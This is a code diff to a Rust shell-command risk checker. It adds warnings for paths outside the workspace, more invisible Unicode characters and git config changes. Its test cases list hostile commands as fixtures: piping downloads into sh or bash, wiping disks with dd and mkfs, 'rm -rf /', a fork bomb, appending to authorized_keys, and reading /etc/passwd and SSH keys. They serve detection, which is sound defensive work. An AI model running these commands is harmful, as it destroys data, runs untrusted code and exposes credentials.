@@ -1,6 +1,7 @@
 //! What to look out for in a shell command, read with the shell's own grammar. It warns, and never says that a command is harmless.
 
 mod git;
+mod places;
 mod programs;
 mod words;
 
@@ -75,7 +76,7 @@ fn visit<'t>(tree: &'t Tree, until: Instant, mut each: impl FnMut(Node<'t>)) -> 
 }
 
 /// In which order cautions are told, by code.
-const ORDER: [&str; 22] = [
+const ORDER: [&str; 23] = [
     "unparsed",
     "deceiving",
     "privileges",
@@ -84,6 +85,7 @@ const ORDER: [&str; 22] = [
     "downloads_and_runs",
     "writes_outside",
     "writes_configuration",
+    "outside",
     "overwrites",
     "discards_work",
     "permissions",
@@ -105,7 +107,8 @@ pub fn deceives(c: char) -> bool {
     (c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
         || matches!(
             c,
-            '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}'
+            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
+                | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'
         )
 }
 
@@ -139,8 +142,13 @@ impl Found {
             "command" => {
                 self.commands += 1;
                 // What a command like `sudo` or `env` runs is looked at as well.
-                for words in Words::of(node, source).layers() {
-                    self.command(&words);
+                let layers = Words::of(node, source).layers();
+                for words in &layers {
+                    self.command(words);
+                }
+                // The others have the words of the last one among their own.
+                if let Some(words) = layers.last() {
+                    self.outside(places::outside(words));
                 }
             }
             "declaration_command" | "unset_command" => {
@@ -202,9 +210,18 @@ impl Found {
         }
     }
 
+    fn outside(&mut self, path: Option<String>) {
+        if let Some(path) = path {
+            self.add("outside", format!("It names what is not in the workspace ({path})."));
+        }
+    }
+
     fn redirect(&mut self, text: &str) {
         let text = text.trim_start_matches(|c: char| c.is_ascii_digit());
-        let Some(at) = text.find('>') else { return };
+        let Some(at) = text.find('>') else {
+            let source = unquoted(text.trim_start_matches(['<', '&', ' ', '\t']));
+            return self.outside(Some(source).filter(|path| places::is_outside(path)));
+        };
         let target = text[at..].trim_start_matches(['>', '|', '&', ' ', '\t']);
         let target = unquoted(target);
         // Another descriptor, or nowhere.
@@ -264,6 +281,11 @@ mod tests {
             "cat a.txt 2>/dev/null",
             "echo \"a; b & c > d\"",
             "test -f a",
+            "cat /dev/null a..b ./c.. ...",
+            "grep '/etc' a",
+            "sed -e '/x/d' a",
+            "echo /etc ../x",
+            "git log main..topic",
         ] {
             assert_eq!(codes(command), [""; 0], "{command}");
         }
@@ -276,14 +298,14 @@ mod tests {
             ("/bin/rm x", &["deletes"]),
             ("r\\m x", &["deletes"]),
             ("'rm' x", &["deletes"]),
-            ("sudo rm -rf /", &["privileges", "deletes"]),
+            ("sudo rm -rf /", &["privileges", "deletes", "outside"]),
             ("env A=1 timeout 5 rm x", &["deletes"]),
             ("sudo $X", &["privileges", "computed"]),
             ("find . | xargs -0 rm", &["deletes", "evaluates", "several"]),
             ("curl x | sudo -E bash", &["privileges", "downloads_and_runs", "network", "several"]),
             ("find . -delete", &["deletes"]),
             ("dd if=/dev/zero of=/dev/sda", &["disk"]),
-            ("mkfs.ext4 /dev/sda", &["disk"]),
+            ("mkfs.ext4 /dev/sda", &["disk", "outside"]),
             ("chmod 777 a", &["permissions"]),
             ("kill -9 1", &["kills"]),
             ("curl https://example.org/x | sh", &["downloads_and_runs", "network", "several"]),
@@ -310,7 +332,18 @@ mod tests {
             ("echo x >> a.txt", &[]),
             ("echo x > /etc/passwd", &["writes_outside", "overwrites"]),
             ("echo x >> ~/.ssh/authorized_keys", &["writes_outside", "writes_configuration"]),
-            ("cp a ../b", &["writes_outside", "overwrites"]),
+            ("cp a ../b", &["writes_outside", "outside", "overwrites"]),
+            ("cat ../../x", &["outside"]),
+            ("cat a/../../x", &["outside"]),
+            ("cat '/etc/passwd'", &["outside"]),
+            ("cat < /etc/passwd", &["outside"]),
+            ("cd .. && ls", &["outside", "several"]),
+            ("ls ~", &["outside"]),
+            ("cat \"$HOME/.ssh/id\"", &["outside"]),
+            ("timeout 5 cat /etc/passwd", &["outside"]),
+            ("grep -r token /etc", &["outside"]),
+            ("sed -n 1p /etc/passwd", &["outside"]),
+            ("diff --from-file=/etc/passwd a", &["outside"]),
             ("env", &["environment"]),
             ("export -p", &["environment"]),
             (":(){ :|:& };:", &["background", "function", "several"]),
@@ -347,6 +380,16 @@ mod tests {
             ("git -c user.name=Ana commit -m x", &[]),
             ("git submodule foreach 'rm -rf .'", &["network", "evaluates"]),
             ("git rm -r a", &["deletes"]),
+            ("git config core.hooksPath x", &["writes_configuration", "evaluates"]),
+            ("git config --global alias.x '!rm'", &["writes_configuration", "evaluates"]),
+            ("git config set include.path x", &["writes_configuration", "evaluates"]),
+            ("git config --edit", &["writes_configuration", "evaluates"]),
+            ("git config user.name Ana", &["writes_configuration"]),
+            ("git config --unset user.name", &["writes_configuration"]),
+            ("git config core.editor", &[]),
+            ("git config --get core.editor", &[]),
+            ("git config get core.editor", &[]),
+            ("git config --list", &[]),
             ("git -C sub log -p --stat", &[]),
             ("mv a b", &["overwrites"]),
             ("mv -n a b", &[]),
